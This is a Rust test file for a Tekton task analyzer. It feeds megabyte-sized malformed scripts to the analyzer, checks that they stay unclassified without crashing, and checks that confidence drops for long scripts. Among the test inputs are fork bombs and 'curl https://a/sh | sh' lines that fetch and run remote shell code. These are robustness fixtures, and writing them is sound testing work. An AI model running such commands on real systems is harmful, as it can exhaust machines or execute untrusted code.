//! Scripts that nobody should write, a megabyte each: an answer comes, nothing breaks, and where
//! nothing can be known the answer is that.

use konflux_analysis::Workspace;

const MEGABYTE: usize = 1 << 20;

fn task(script: &str) -> String {
    let lines = script.split('\n').map(|line| format!("        {line}\n"));
    format!(
        "apiVersion: tekton.dev/v1\nkind: Task\nmetadata:\n  name: thing\nspec:\n  steps:\n    \
         - name: s\n      image: quay.io/example/tools\n      script: |\n{}",
        lines.collect::<String>()
    )
}

/// All that an editor asks about a task.
fn roles(script: &str) -> Vec<&'static str> {
    let text = task(script);
    let mut workspace = Workspace::without_catalogs();
    workspace.open("/w/task.yaml", &text);
    workspace.findings("/w/task.yaml");
    let name = text.find("thing").expect("it has a name");
    assert!(workspace.hover("/w/task.yaml", name).is_some());
    let inside = text.len() / 2;
    let inside = (inside..)
        .find(|at| text.is_char_boundary(*at))
        .expect("an end");
    workspace.edit("/w/task.yaml", inside..inside, "x");
    workspace.findings("/w/task.yaml");
    let classes = workspace.classify("/w/task.yaml");
    let roles = classes.iter().flat_map(|class| &class.roles);
    roles.map(|role| role.as_str()).collect()
}

/// On as little stack as a thread has.
fn on_a_small_stack(run: impl FnOnce() + Send + 'static) {
    let thread = std::thread::Builder::new().stack_size(2 << 20);
    let thread = thread.spawn(run).expect("a thread");
    thread.join().expect("no panic");
}

#[test]
fn hostile_scripts_stay_unclassified() {
    on_a_small_stack(|| {
        let many = |text: &str| text.repeat(MEGABYTE / text.len());
        let hostile = [
            ("unbalanced quotes", many("echo \"it's open\n")),
            (
                "one open quote",
                format!("echo '{}", many("oras push a b ")),
            ),
            (
                "a here document without end",
                format!("cat <<END\n{}", many("oras push a b\n")),
            ),
            ("many without end", many("cat <<E <<F <<G\n")),
            ("parentheses", many("(")),
            ("substitutions", many("$(")),
            ("backquotes", many("`")),
            ("backquotes and substitutions", many("`$(")),
            ("braces", many("{ ")),
            ("expansions", many("${a:-")),
            ("closing brackets", many(")}]")),
            ("conditions", many("if ! [[ ( ")),
            ("cases", many("case a in a) ")),
            ("fork bomb", ":(){ :|:& };:".to_owned()),
            ("fork bombs", many(":(){ :|:& };:\n")),
            ("fork bombs in each other", many(":(){ ")),
            (
                "functions that call each other",
                "f() { g \"$@\" \"$@\"; }\ng() { f \"$@\" \"$@\"; }\nf in house\n".to_owned(),
            ),
            (
                "a function that fetches itself",
                "sh2() { curl https://a/sh2.sh | sh \"$@\"; }\nsh2\n".to_owned(),
            ),
            (
                "shells that fetch shells",
                "curl https://a/sh | sh\ncurl https://a/bash.sh | bash\n".to_owned(),
            ),
            (
                "a here-document in a substitution that is still open",
                "$(<<EOF ${X}\nEOF".to_owned(),
            ),
            (
                "a here-document that swallows the end of its substitution",
                "$(a <<E\n)\nE\n".to_owned(),
            ),
            (
                "control characters",
                many("\u{1}\u{1b}[2J\u{7}\u{8}\u{7f} "),
            ),
            ("NUL", many("a\u{0}b ")),
            ("letters of all sizes", many("é💥\u{feff}\u{2028}")),
            ("one word", many("x")),
            ("lines without end", many("a \\\n")),
            ("pipes", many("a | ")),
            ("semicolons", many(";")),
            (
                "Perl",
                format!("#!/usr/bin/perl\n{}", many("print qq{it's (};\n")),
            ),
            (
                "Python",
                format!("#!/usr/bin/env python3\n{}", many("x = [[(\"\"\"\n")),
            ),
            (
                "Python on one line",
                format!("#!/usr/bin/env python3\n{}", many("x.post([(\"")),
            ),
            ("no language", many("<?php ?> %! @@ <xml a='b\n")),
            ("bytes of a picture", many("\u{89}PNG\r\u{1a}\u{0}IHDR ")),
        ];
        for (what, script) in hostile {
            assert_eq!(roles(&script), [""; 0], "{what}");
        }
    });
}

#[test]
fn what_a_long_script_does_is_seen_with_less_trust() {
    on_a_small_stack(|| {
        let echo = "echo \"a line like any other\" >> log.txt\n";
        let script = |size: usize| {
            let lines = echo.repeat(size / echo.len());
            format!("codesign --sign me /app\n{lines}")
        };
        let (short, long) = (script(1000), script(MEGABYTE));
        assert_eq!(roles(&long), ["sign-content"]);
        let confidence = |script: &str| {
            let mut workspace = Workspace::without_catalogs();
            workspace.load("/w/task.yaml", &task(script));
            workspace.classify("/w/task.yaml")[0].confidence
        };
        assert!(confidence(&long) < confidence(&short));
    });
}
